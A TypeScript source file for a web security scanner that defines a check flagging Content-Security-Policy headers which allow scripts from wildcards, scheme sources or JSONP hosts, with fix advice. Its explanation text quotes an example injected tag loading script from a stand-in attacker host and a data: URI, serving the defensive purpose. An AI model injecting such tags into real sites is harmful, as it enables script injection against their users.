import type { Check } from "../../core/index.ts";
import {
  describePolicies,
  DocumentCsps,
  metaExcerpt,
  scriptWeakness,
  wildcardWeaknesses,
} from "../../artifacts/index.ts";
import { CSP_CWE, CSP_REFERENCES, CVSS_SCRIPT_INJECTION_UNMITIGATED, cspFixes } from "./shared.ts";
import { documentDraft } from "./document-draft.ts";

export const cspWildcardSource: Check = {
  meta: {
    id: "headers.csp-wildcard-source",
    title: "The Content-Security-Policy allows scripts from anywhere",
    cvss: CVSS_SCRIPT_INJECTION_UNMITIGATED,
    cwe: CSP_CWE,
    references: CSP_REFERENCES,
    explanation:
      "`script-src` (or `default-src`, which stands in for it) allows `*`, `https:`, `http:` or `data:`. An attacker who can inject one tag writes " +
      '`<script src="https://attacker.example/x.js">` or `<script src="data:,...">` and the policy lets it run. The same goes for an allowlisted host ' +
      "that is known to serve JSONP or old AngularJS (Google's CSP Evaluator list): the attacker loads their code through it. " +
      "With a nonce and `'strict-dynamic'`, browsers ignore these sources, so such a policy is not reported.",
    fixes: cspFixes(
      "Replace `*`, `https:`, `http:` and `data:` in `script-src` with a per-response nonce and `'strict-dynamic'` (or with `'self'` and the exact hosts you load scripts from), and drop hosts that serve JSONP.",
    ),
    learn: "content-security-policy#csp-wildcard-source",
    needs: [DocumentCsps],
  },
  analyse(artifacts) {
    return artifacts.read(DocumentCsps).flatMap((doc) => {
      const weak = scriptWeakness(doc, wildcardWeaknesses);
      const first = weak?.[0]?.weaknesses[0];
      if (!weak || !first) return [];
      const all = weak.flatMap((entry) => entry.weaknesses);
      return [
        documentDraft(
          doc.document,
          `${doc.document.url}: ${first.reason}.`,
          `Every enforced policy allows scripts an attacker can host (${first.directive} ${first.value}).`,
          ["content-security-policy"],
          {
            directive: first.directive,
            value: first.value,
            sources: [...new Set(all.map((w) => w.value))].join(" "),
            bypassHosts: all
              .filter((w) => w.reason.includes("known to host"))
              .map((w) => w.value)
              .join(" "),
            policies: describePolicies(doc.enforced),
          },
          metaExcerpt(doc),
        ),
      ];
    });
  },
};
